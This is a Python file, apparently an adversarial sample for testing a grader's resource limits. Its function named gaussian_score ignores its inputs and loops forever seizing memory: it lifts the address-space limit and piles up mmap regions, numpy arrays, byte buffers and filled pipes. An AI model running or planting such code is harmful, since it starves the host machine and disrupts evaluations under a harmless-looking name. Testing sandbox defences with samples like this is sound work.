"""Takes memory by every way there is, again and again when refused: arrays, maps, pipes, a larger limit.

Same-process grader: not run, the memory is that of the machine.
"""

import fcntl
import mmap
import os
import resource

import numpy as np

PIPE_SIZE = 1031
hoard = []


def fill_pipe():
    reader, writer = os.pipe()
    hoard.append((reader, writer))
    fcntl.fcntl(writer, PIPE_SIZE, 2**20)
    os.write(writer, bytes(2**16))


def take():
    yield lambda: resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    yield lambda: hoard.append(mmap.mmap(-1, 2**40, flags=mmap.MAP_PRIVATE | 0x4000))
    yield lambda: hoard.append(mmap.mmap(-1, 2**27))
    yield lambda: hoard.append(np.ones(2**22))
    yield lambda: hoard.append(bytearray(os.urandom(2**16)) * 2**8)
    yield fill_pipe


def gaussian_score(z, mu, log_sigma):
    while True:
        for step in take():
            try:
                step()
            except (MemoryError, OSError, ValueError):
                continue
